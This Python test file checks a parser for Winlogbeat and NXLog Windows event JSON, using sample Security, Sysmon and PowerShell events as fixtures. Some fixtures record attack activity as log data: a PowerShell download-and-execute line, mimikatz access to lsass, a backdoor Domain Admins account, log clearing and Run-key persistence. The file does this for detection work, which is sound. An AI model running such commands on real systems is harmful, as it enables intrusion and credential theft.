"""Windows event JSON in the shapes Winlogbeat 7/8 and NXLog im_msvistalog write, beyond the shared EVTX samples.

Shapes from the Winlogbeat field reference (7.x `winlog.event_id` int, 8.x strings, `event.code`,
`winlog.user_data`, `winlog.keywords`), NXLog's im_msvistalog field list (flat EventID, Channel,
local EventTime, Hostname, EventType, signed Keywords) and Microsoft's event reference for the
Security, System, Sysmon and PowerShell ids. Names and addresses are documentation values.
"""

from __future__ import annotations

import orjson

from collectors.parsers import ParseContext, detect_format, get_parser
from collectors.winlog_ecs import audit_outcome

W_WLB8_4624_RDP = '{"@timestamp":"2023-03-01T02:03:04.567Z","event":{"code":"4624","kind":"event","provider":"Microsoft-Windows-Security-Auditing","action":"Logon","outcome":"success","created":"2023-03-01T02:03:05.000Z"},"host":{"name":"dc01.so.gov.vn"},"log":{"level":"information"},"message":"An account was successfully logged on.","winlog":{"channel":"Security","event_id":"4624","record_id":"123456","computer_name":"DC01.so.gov.vn","provider_name":"Microsoft-Windows-Security-Auditing","provider_guid":"{54849625-5478-4994-a5ba-3e3b0328c30d}","task":"Logon","opcode":"Info","keywords":["Audit Success"],"process":{"pid":636,"thread":{"id":700}},"event_data":{"SubjectUserSid":"S-1-5-18","SubjectUserName":"DC01$","SubjectDomainName":"SO","SubjectLogonId":"0x3e7","TargetUserSid":"S-1-5-21-1-2-3-1104","TargetUserName":"nguyenvana","TargetDomainName":"SO","TargetLogonId":"0x8dcdc","LogonType":"10","LogonProcessName":"User32 ","AuthenticationPackageName":"Negotiate","WorkstationName":"DC01","IpAddress":"10.10.5.21","IpPort":"51234","ProcessName":"C:\\\\Windows\\\\System32\\\\svchost.exe","ProcessId":"0x3d0","ElevatedToken":"%%1842"}}}'
W_WLB7_4625_MAPPED_V6 = '{"@timestamp":"2020-05-01T10:00:00.000Z","event":{"code":4625,"kind":"event"},"winlog":{"channel":"Security","event_id":4625,"record_id":99,"computer_name":"WS01","provider_name":"Microsoft-Windows-Security-Auditing","event_data":{"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","TargetUserName":"administrator","TargetDomainName":".","Status":"0xc000006d","SubStatus":"0xc000006a","LogonType":"3","WorkstationName":"-","IpAddress":"::ffff:203.0.113.7","IpPort":"0","ProcessName":"-","ProcessId":"0x0"}}}'
W_WLB8_4634_NO_EVENT_ID = '{"@timestamp":"2023-03-01T02:05:00.000Z","event":{"code":"4634"},"winlog":{"channel":"Security","computer_name":"WS01","provider_name":"Microsoft-Windows-Security-Auditing","event_data":{"TargetUserName":"bob","TargetDomainName":"SO","LogonType":"3"}}}'
W_SEC_4648 = '{"@timestamp":"2023-03-01T02:06:00.000Z","event":{"code":"4648"},"winlog":{"channel":"Security","event_id":"4648","computer_name":"WS01","event_data":{"SubjectUserName":"alice","SubjectDomainName":"SO","TargetUserName":"admin","TargetDomainName":"SO","TargetServerName":"fs01","IpAddress":"10.0.0.5","IpPort":"445","ProcessName":"C:\\\\Windows\\\\System32\\\\net.exe"}}}'
W_SEC_4672 = '{"@timestamp":"2023-03-01T02:07:00.000Z","winlog":{"channel":"Security","event_id":4672,"computer_name":"WS01","event_data":{"SubjectUserName":"admin","SubjectDomainName":"SO","PrivilegeList":"SeDebugPrivilege\\n\\t\\t\\tSeBackupPrivilege"}}}'
W_SEC_4688 = '{"@timestamp":"2023-03-01T02:08:00.000Z","winlog":{"channel":"Security","event_id":4688,"computer_name":"WS01","event_data":{"SubjectUserName":"alice","SubjectDomainName":"SO","NewProcessId":"0x1a2c","NewProcessName":"C:\\\\Windows\\\\System32\\\\cmd.exe","TokenElevationType":"%%1936","ProcessId":"0x2f0","CommandLine":"cmd.exe /c whoami","ParentProcessName":"C:\\\\Windows\\\\explorer.exe","MandatoryLabel":"S-1-16-8192"}}}'
W_SEC_4720 = '{"@timestamp":"2023-03-01T02:09:00.000Z","winlog":{"channel":"Security","event_id":4720,"computer_name":"DC01","event_data":{"TargetUserName":"backdoor","TargetDomainName":"SO","TargetSid":"S-1-5-21-1-2-3-1200","SubjectUserName":"admin","SubjectDomainName":"SO","SamAccountName":"backdoor"}}}'
W_SEC_4726 = '{"@timestamp":"2023-03-01T02:10:00.000Z","winlog":{"channel":"Security","event_id":4726,"computer_name":"DC01","event_data":{"TargetUserName":"backdoor","TargetDomainName":"SO","SubjectUserName":"admin","SubjectDomainName":"SO"}}}'
W_SEC_4728 = '{"@timestamp":"2023-03-01T02:11:00.000Z","winlog":{"channel":"Security","event_id":4728,"computer_name":"DC01","event_data":{"MemberName":"CN=backdoor,CN=Users,DC=so,DC=gov,DC=vn","MemberSid":"S-1-5-21-1-2-3-1200","TargetUserName":"Domain Admins","TargetDomainName":"SO","SubjectUserName":"admin","SubjectDomainName":"SO"}}}'
W_SEC_4732 = '{"@timestamp":"2023-03-01T02:12:00.000Z","winlog":{"channel":"Security","event_id":4732,"computer_name":"DC01","event_data":{"MemberName":"-","MemberSid":"S-1-5-21-1-2-3-1200","TargetUserName":"Administrators","TargetDomainName":"Builtin","SubjectUserName":"admin","SubjectDomainName":"SO"}}}'
W_SEC_4740 = '{"@timestamp":"2023-03-01T02:13:00.000Z","winlog":{"channel":"Security","event_id":4740,"computer_name":"DC01","event_data":{"TargetUserName":"nguyenvana","TargetDomainName":"WS07","SubjectUserName":"DC01$","SubjectDomainName":"SO"}}}'
W_SEC_4768 = '{"@timestamp":"2023-03-01T02:14:00.000Z","winlog":{"channel":"Security","event_id":"4768","computer_name":"DC01","event_data":{"TargetUserName":"nguyenvana","TargetDomainName":"SO.GOV.VN","ServiceName":"krbtgt","TicketEncryptionType":"0x12","Status":"0x0","IpAddress":"::ffff:10.10.5.21","IpPort":"49723","PreAuthType":"2"}}}'
W_SEC_4769_UPN = '{"@timestamp":"2023-03-01T02:15:00.000Z","winlog":{"channel":"Security","event_id":"4769","computer_name":"DC01","event_data":{"TargetUserName":"nguyenvana@SO.GOV.VN","TargetDomainName":"SO.GOV.VN","ServiceName":"MSSQLSvc","TicketEncryptionType":"0x17","Status":"0x0","IpAddress":"::1","IpPort":"0"}}}'
W_SEC_4771 = '{"@timestamp":"2023-03-01T02:16:00.000Z","winlog":{"channel":"Security","event_id":"4771","computer_name":"DC01","event_data":{"TargetUserName":"nguyenvana","ServiceName":"krbtgt/SO.GOV.VN","Status":"0x18","IpAddress":"::ffff:10.10.5.22","IpPort":"50000","PreAuthType":"2"}}}'
W_SEC_4776 = '{"@timestamp":"2023-03-01T02:17:00.000Z","winlog":{"channel":"Security","event_id":"4776","computer_name":"DC01","event_data":{"PackageName":"MICROSOFT_AUTHENTICATION_PACKAGE_V1_0","TargetUserName":"guest","Workstation":"KALI","Status":"0xc0000064"}}}'
W_SEC_1102 = '{"@timestamp":"2023-03-01T02:18:00.000Z","winlog":{"channel":"Security","event_id":"1102","computer_name":"DC01","provider_name":"Microsoft-Windows-Eventlog","user_data":{"xml_name":"LogFileCleared","SubjectUserSid":"S-1-5-21-1-2-3-500","SubjectUserName":"admin","SubjectDomainName":"SO","SubjectLogonId":"0x1"}}}'
W_SYS_7045 = '{"@timestamp":"2023-03-01T02:19:00.000Z","winlog":{"channel":"System","event_id":"7045","computer_name":"WS01","provider_name":"Service Control Manager","event_data":{"ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\\\PSEXESVC.exe","ServiceType":"user mode service","StartType":"demand start","AccountName":"LocalSystem"}}}'
W_SYS_104 = '{"@timestamp":"2023-03-01T02:20:00.000Z","winlog":{"channel":"System","event_id":"104","computer_name":"WS01","provider_name":"Microsoft-Windows-Eventlog","user_data":{"SubjectUserName":"admin","SubjectDomainName":"SO","Channel":"System","BackupPath":""}}}'
W_SYSMON_1 = '{"@timestamp":"2023-03-01T02:21:00.000Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":1,"computer_name":"WS01","provider_name":"Microsoft-Windows-Sysmon","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2023-03-01 02:21:00.123","ProcessGuid":"{a1b2c3d4-0000-0000-0000-000000000001}","ProcessId":"4242","Image":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","FileVersion":"10.0","Description":"Windows PowerShell","Product":"Microsoft Windows","Company":"Microsoft Corporation","OriginalFileName":"PowerShell.EXE","CommandLine":"powershell.exe -nop -w hidden -enc SQBFAFgA","CurrentDirectory":"C:\\\\Users\\\\alice\\\\","User":"SO\\\\alice","LogonGuid":"{a1b2c3d4-0000-0000-0000-000000000002}","LogonId":"0x8dcdc","TerminalSessionId":"1","IntegrityLevel":"Medium","Hashes":"SHA1=AAAA,MD5=BBBB,SHA256=CCCC,IMPHASH=DDDD","ParentProcessGuid":"{a1b2c3d4-0000-0000-0000-000000000003}","ParentProcessId":"1000","ParentImage":"C:\\\\Windows\\\\explorer.exe","ParentCommandLine":"C:\\\\Windows\\\\Explorer.EXE","ParentUser":"SO\\\\alice"}}}'
W_SYSMON_3_V6 = '{"@timestamp":"2023-03-01T02:22:00.000Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":3,"computer_name":"WS01","event_data":{"UtcTime":"2023-03-01 02:22:00.000","ProcessGuid":"{x}","ProcessId":"4242","Image":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","User":"SO\\\\alice","Protocol":"tcp","Initiated":"true","SourceIsIpv6":"true","SourceIp":"fe80:0:0:0:1c2d:3e4f:5a6b:7c8d","SourceHostname":"WS01","SourcePort":"49800","SourcePortName":"-","DestinationIsIpv6":"false","DestinationIp":"203.0.113.80","DestinationHostname":"-","DestinationPort":"443","DestinationPortName":"https"}}}'
W_SYSMON_7 = '{"@timestamp":"2023-03-01T02:23:00.000Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":7,"computer_name":"WS01","event_data":{"ProcessId":"4242","Image":"C:\\\\Windows\\\\System32\\\\rundll32.exe","ImageLoaded":"C:\\\\Users\\\\alice\\\\AppData\\\\evil.dll","Hashes":"SHA256=EEEE","Signed":"false","Signature":"-","SignatureStatus":"Unavailable","User":"SO\\\\alice"}}}'
W_SYSMON_8 = '{"@timestamp":"2023-03-01T02:24:00.000Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":8,"computer_name":"WS01","event_data":{"SourceProcessGuid":"{s}","SourceProcessId":"4242","SourceImage":"C:\\\\evil.exe","TargetProcessGuid":"{t}","TargetProcessId":"700","TargetImage":"C:\\\\Windows\\\\System32\\\\lsass.exe","NewThreadId":"1234","StartAddress":"0x00007FF","SourceUser":"SO\\\\alice","TargetUser":"NT AUTHORITY\\\\SYSTEM"}}}'
W_SYSMON_10 = '{"@timestamp":"2023-03-01T02:25:00.000Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":10,"computer_name":"WS01","event_data":{"SourceProcessGUID":"{s}","SourceProcessId":"4242","SourceThreadId":"1","SourceImage":"C:\\\\Tools\\\\mimikatz.exe","TargetProcessGUID":"{t}","TargetProcessId":"700","TargetImage":"C:\\\\Windows\\\\system32\\\\lsass.exe","GrantedAccess":"0x1010","CallTrace":"C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d1e4","SourceUser":"SO\\\\alice","TargetUser":"NT AUTHORITY\\\\SYSTEM"}}}'
W_SYSMON_11 = '{"@timestamp":"2023-03-01T02:26:00.000Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":11,"computer_name":"WS01","event_data":{"ProcessGuid":"{x}","ProcessId":"4242","Image":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","TargetFilename":"C:\\\\Users\\\\alice\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\run.bat","CreationUtcTime":"2023-03-01 02:26:00.000","User":"SO\\\\alice"}}}'
W_SYSMON_13 = '{"@timestamp":"2023-03-01T02:27:00.000Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":13,"computer_name":"WS01","event_data":{"EventType":"SetValue","ProcessId":"4242","Image":"C:\\\\evil.exe","TargetObject":"HKU\\\\S-1-5-21-1-2-3-1104\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\evil","Details":"C:\\\\evil.exe","User":"SO\\\\alice"}}}'
W_SYSMON_22 = '{"@timestamp":"2023-03-01T02:28:00.000Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":22,"computer_name":"WS01","event_data":{"ProcessGuid":"{x}","ProcessId":"4242","QueryName":"evil.example.com","QueryStatus":"0","QueryResults":"type:  5 cdn.example.net;::ffff:203.0.113.99;","Image":"C:\\\\evil.exe","User":"SO\\\\alice"}}}'
W_PS_4104 = '{"@timestamp":"2023-03-01T02:29:00.000Z","winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_id":"4104","computer_name":"WS01","provider_name":"Microsoft-Windows-PowerShell","event_data":{"MessageNumber":"1","MessageTotal":"1","ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/a.ps1\')","ScriptBlockId":"f1e2d3c4-0000-0000-0000-000000000000","Path":""}}}'
W_PS_4103 = '{"@timestamp":"2023-03-01T02:30:00.000Z","winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_id":"4103","computer_name":"WS01","event_data":{"ContextInfo":"        Severity = Informational\\r\\n        Host Name = ConsoleHost\\r\\n        Command Name = Invoke-WebRequest\\r\\n        Command Type = Cmdlet\\r\\n        User = SO\\\\alice\\r\\n","UserData":"","Payload":"CommandInvocation(Invoke-WebRequest): \\"Invoke-WebRequest\\"\\r\\nParameterBinding(Invoke-WebRequest): name=\\"Uri\\"; value=\\"http://203.0.113.5/\\"\\r\\n"}}}'
NX_4624 = '{"EventTime":"2023-03-01 09:03:04","Hostname":"DC01.so.gov.vn","Keywords":-9214364837600034816,"EventType":"AUDIT_SUCCESS","SeverityValue":2,"Severity":"INFO","EventID":4624,"SourceName":"Microsoft-Windows-Security-Auditing","ProviderGuid":"{54849625-5478-4994-A5BA-3E3B0328C30D}","Version":2,"Task":12544,"OpcodeValue":0,"RecordNumber":123456,"ActivityID":"{00000000-0000-0000-0000-000000000000}","ProcessID":636,"ThreadID":700,"Channel":"Security","Message":"An account was successfully logged on.","Category":"Logon","Opcode":"Info","SubjectUserSid":"S-1-5-18","SubjectUserName":"DC01$","SubjectDomainName":"SO","TargetUserName":"nguyenvana","TargetDomainName":"SO","LogonType":"10","IpAddress":"10.10.5.21","IpPort":"51234","EventReceivedTime":"2023-03-01 09:03:05","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}'
NX_4625_ISO = '{"EventTime":"2023-03-01T09:04:00.123456+07:00","Hostname":"WS01","EventType":"AUDIT_FAILURE","EventID":4625,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","RecordNumber":1000,"TargetUserName":"administrator","TargetDomainName":"WS01","Status":"0xc000006d","LogonType":"3","IpAddress":"203.0.113.7","IpPort":"0"}'
NX_SYSMON_3 = '{"EventTime":"2023-03-01 09:22:00","Hostname":"WS01","EventType":"INFO","EventID":3,"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Domain":"NT AUTHORITY","AccountName":"SYSTEM","UserID":"S-1-5-18","AccountType":"User","RecordNumber":5,"Image":"C:\\\\evil.exe","User":"SO\\\\alice","Protocol":"tcp","Initiated":"true","SourceIp":"10.0.0.9","SourcePort":"49800","DestinationIp":"203.0.113.80","DestinationPort":"443","ProcessId":"4242"}'
NX_PS_4104 = '{"EventTime":"2023-03-01 09:29:00","Hostname":"WS01","EventID":4104,"SourceName":"Microsoft-Windows-PowerShell","Channel":"Microsoft-Windows-PowerShell/Operational","ScriptBlockText":"Get-Process","ScriptBlockId":"abc","MessageNumber":"1","MessageTotal":"1"}'
NX_7045 = '{"EventTime":"2023-03-01 09:19:00","Hostname":"WS01","EventID":7045,"SourceName":"Service Control Manager","Channel":"System","EventType":"INFO","ServiceName":"evilsvc","ImagePath":"cmd.exe /c calc","AccountName":"LocalSystem"}'
NX_5152 = '{"EventTime":"2023-03-01 09:30:00","Hostname":"WS01","EventID":5152,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","EventType":"AUDIT_FAILURE","SourceAddress":"203.0.113.9","SourcePort":"5555","DestAddress":"10.0.0.9","DestPort":"445","Protocol":"6"}'
NX_SYSLOG_4740 = '<14>Mar  1 09:31:00 WS01 Microsoft-Windows-Security-Auditing[636]: {"EventTime":"2023-03-01 09:31:00","Hostname":"WS01","EventID":4740,"Channel":"Security","SourceName":"Microsoft-Windows-Security-Auditing","TargetUserName":"bob","TargetDomainName":"WS01","SubjectUserName":"DC01$","SubjectDomainName":"SO"}'

WINLOGBEAT = [W_WLB8_4624_RDP, W_WLB7_4625_MAPPED_V6, W_WLB8_4634_NO_EVENT_ID, W_SEC_4648, W_SEC_4672, W_SEC_4688, W_SEC_4720, W_SEC_4726, W_SEC_4728, W_SEC_4732, W_SEC_4740, W_SEC_4768, W_SEC_4769_UPN, W_SEC_4771, W_SEC_4776, W_SEC_1102, W_SYS_7045, W_SYS_104, W_SYSMON_1, W_SYSMON_3_V6, W_SYSMON_7, W_SYSMON_8, W_SYSMON_10, W_SYSMON_11, W_SYSMON_13, W_SYSMON_22, W_PS_4104, W_PS_4103]
NXLOG = [NX_4624, NX_4625_ISO, NX_SYSMON_3, NX_PS_4104, NX_7045, NX_5152, NX_SYSLOG_4740]


def _one(line: str) -> dict:
    ev = get_parser("winlog_json").parse(line, ParseContext())  # NXLog's naive EventTime is read in UTC+7
    assert ev is not None
    orjson.dumps(ev)
    for key in ("event.dataset", "event.category", "event.action", "event.code", "host.name"):
        assert ev.get(key), (key, line[:80])
    return ev


def _has(ev: dict, **expected) -> None:
    got = {k.replace("__", "."): ev.get(k.replace("__", ".")) for k in expected}
    assert got == {k.replace("__", "."): v for k, v in expected.items()}


def test_every_variant_parses_and_is_detected():
    assert detect_format(WINLOGBEAT) == "winlog_json"
    assert detect_format(NXLOG) == "winlog_json"
    assert detect_format([NX_SYSLOG_4740] * 2) == "winlog_json"
    outcomes = [_one(line).get("event.outcome") for line in WINLOGBEAT + NXLOG]
    assert sum(o is not None for o in outcomes) == len(outcomes) - 3  # PowerShell 4103/4104 twice: not known


def test_winlogbeat_logons():
    rdp = _one(W_WLB8_4624_RDP)
    _has(rdp, winlog__event_id=4624, event__code="4624", winlog__record_id=123456, event__action="logged-in",
         event__outcome="success", user__name="nguyenvana", user__domain="SO", source__ip="10.10.5.21",
         source__port=51234, winlog__logon__type="RemoteInteractive", process__pid=0x3D0, host__name="DC01.so.gov.vn")
    failed = _one(W_WLB7_4625_MAPPED_V6)
    _has(failed, source__ip="203.0.113.7", event__outcome="failure", winlog__event_data__SubStatus="0xc000006a")
    assert "source.port" not in failed and "source.domain" not in failed  # port 0 and workstation "-"
    logoff = _one(W_WLB8_4634_NO_EVENT_ID)  # winlog.event_id dropped by a processor: event.code
    _has(logoff, winlog__event_id=4634, event__action="logged-out", user__name="bob")
    explicit = _one(W_SEC_4648)
    _has(explicit, user__name="admin", user__effective__name="alice", destination__ip="10.0.0.5",
         destination__port=445, process__name="net.exe")
    _has(_one(W_SEC_4672), event__action="logged-in-special", user__name="admin")


def test_winlogbeat_process_accounts_groups():
    _has(_one(W_SEC_4688), process__name="cmd.exe", process__pid=0x1A2C, process__command_line="cmd.exe /c whoami",
         process__parent__name="explorer.exe", process__parent__pid=0x2F0, user__name="alice")
    _has(_one(W_SEC_4720), event__action="user-account-created", user__name="admin", user__target__name="backdoor")
    _has(_one(W_SEC_4726), event__action="user-account-deleted", user__target__name="backdoor")
    _has(_one(W_SEC_4728), group__name="Domain Admins", user__target__id="S-1-5-21-1-2-3-1200",
         user__target__name="CN=backdoor,CN=Users,DC=so,DC=gov,DC=vn")
    local = _one(W_SEC_4732)
    _has(local, group__name="Administrators", group__domain="Builtin", user__target__id="S-1-5-21-1-2-3-1200")
    assert "user.target.name" not in local  # MemberName "-"
    _has(_one(W_SEC_4740), event__action="user-account-locked-out", user__target__name="nguyenvana",
         user__name="DC01$")


def test_winlogbeat_kerberos_ntlm_and_log_clearing():
    _has(_one(W_SEC_4768), event__outcome="success", source__ip="10.10.5.21", user__name="nguyenvana")
    _has(_one(W_SEC_4769_UPN), user__name="nguyenvana", user__domain="SO.GOV.VN", source__ip="::1")
    _has(_one(W_SEC_4771), event__outcome="failure", source__ip="10.10.5.22", winlog__event_data__Status="0x18")
    _has(_one(W_SEC_4776), event__outcome="failure", user__name="guest", source__domain="KALI")
    _has(_one(W_SEC_1102), event__action="audit-log-cleared", user__name="admin", winlog__user_data__xml_name="LogFileCleared")
    _has(_one(W_SYS_7045), event__dataset="windows.system", service__name="PSEXESVC",
         winlog__event_data__ImagePath="%SystemRoot%\\PSEXESVC.exe")
    _has(_one(W_SYS_104), event__dataset="windows.system", event__action="audit-log-cleared", user__name="admin")


def test_winlogbeat_sysmon():
    proc = _one(W_SYSMON_1)
    _has(proc, event__dataset="windows.sysmon", process__name="powershell.exe", process__pid=4242,
         process__command_line="powershell.exe -nop -w hidden -enc SQBFAFgA", process__parent__name="explorer.exe",
         user__name="alice", user__domain="SO", process__hash__sha256="cccc", process__pe__imphash="dddd",
         event__outcome="success")
    _has(_one(W_SYSMON_3_V6), source__ip="fe80::1c2d:3e4f:5a6b:7c8d", source__port=49800,
         destination__ip="203.0.113.80", destination__port=443, network__transport="tcp", network__direction="egress")
    _has(_one(W_SYSMON_7), event__action="image-loaded", winlog__event_data__ImageLoaded="C:\\Users\\alice\\AppData\\evil.dll")
    _has(_one(W_SYSMON_8), process__name="evil.exe", winlog__event_data__TargetImage="C:\\Windows\\System32\\lsass.exe")
    _has(_one(W_SYSMON_10), process__name="mimikatz.exe", process__entity_id="{s}",
         winlog__event_data__GrantedAccess="0x1010")
    startup = _one(W_SYSMON_11)
    assert startup["file.path"].endswith("\\Startup\\run.bat")
    _has(_one(W_SYSMON_13), registry__data__strings="C:\\evil.exe", event__category=["registry"])
    dns = _one(W_SYSMON_22)
    _has(dns, dns__question__name="evil.example.com", event__outcome="success",
         dns__answers__data=["cdn.example.net", "::ffff:203.0.113.99"], dns__resolved_ip=["203.0.113.99"])


def test_winlogbeat_powershell():
    block = _one(W_PS_4104)
    _has(block, event__dataset="windows.powershell", powershell__sequence=1, powershell__total=1,
         powershell__file__script_block_id="f1e2d3c4-0000-0000-0000-000000000000")
    assert block["message"].startswith("IEX (New-Object Net.WebClient)")
    _has(_one(W_PS_4103), powershell__command__name="Invoke-WebRequest", user__name="alice", user__domain="SO")


def test_nxlog_shapes():
    logon = _one(NX_4624)  # naive local EventTime in the default zone (UTC+7)
    _has(logon, **{"@timestamp": "2023-03-01T02:03:04.000Z"}, event__outcome="success", source__ip="10.10.5.21",
         winlog__record_id=123456, host__name="DC01.so.gov.vn", message="An account was successfully logged on.")
    assert "winlog.event_data.SourceModuleType" not in logon and "winlog.event_data.Category" not in logon
    _has(_one(NX_4625_ISO), **{"@timestamp": "2023-03-01T02:04:00.123Z"}, event__outcome="failure")
    _has(_one(NX_SYSMON_3), event__dataset="windows.sysmon", user__name="alice", destination__port=443)
    _has(_one(NX_PS_4104), event__dataset="windows.powershell", powershell__file__script_block_text="Get-Process")
    _has(_one(NX_7045), service__name="evilsvc", event__action="service-installed")
    wfp = _one(NX_5152)
    _has(wfp, event__action="network-packet-dropped", event__outcome="failure", source__ip="203.0.113.9",
         source__port=5555, destination__ip="10.0.0.9", destination__port=445, network__transport="tcp")
    relayed = _one(NX_SYSLOG_4740)
    _has(relayed, event__action="user-account-locked-out", user__target__name="bob")
    assert relayed["log.original"] == NX_SYSLOG_4740


def test_unknown_ids_take_outcome_from_audit_keywords_and_action_from_the_task():
    nx = ('{"EventTime":"2023-03-01 09:40:00","Hostname":"WS01","EventID":4663,"Channel":"Security",'
          '"Keywords":-9214364837600034816,"Category":"File System","ObjectName":"C:\\\\secret.docx"}')
    ev = get_parser("winlog_json").parse(nx, ParseContext())
    _has(ev, event__outcome="success", event__action="file-system", winlog__event_data__ObjectName="C:\\secret.docx")
    wlb = orjson.dumps({"@timestamp": "2023-03-01T02:41:00Z", "winlog": {
        "channel": "Security", "event_id": "4656", "computer_name": "WS01", "task": "Kernel Object",
        "keywords": ["Audit Failure"], "event_data": {"ObjectName": "\\Device\\HarddiskVolume2"}}}).decode()
    _has(get_parser("winlog_json").parse(wlb, ParseContext()), event__outcome="failure", event__action="kernel-object")
    assert [audit_outcome(k) for k in ("0x8020000000000000", "0x8010000000000000", "0x4000000000000000", None)] == [
        "success", "failure", None, None]


def test_a_document_read_back_from_elasticsearch_keeps_its_pipeline_fields():
    doc = orjson.dumps({"@timestamp": "2023-03-01T02:50:00Z", "event": {"code": "4624", "outcome": "success"},
                        "user": {"name": "carol", "domain": "SO"}, "source": {"ip": "10.1.1.1", "port": 3389},
                        "winlog": {"channel": "Security", "event_id": "4624", "computer_name": "DC01",
                                   "logon": {"type": "RemoteInteractive"}}}).decode()
    _has(get_parser("winlog_json").parse(doc, ParseContext()), user__name="carol", source__ip="10.1.1.1",
         source__port=3389, event__action="logged-in")
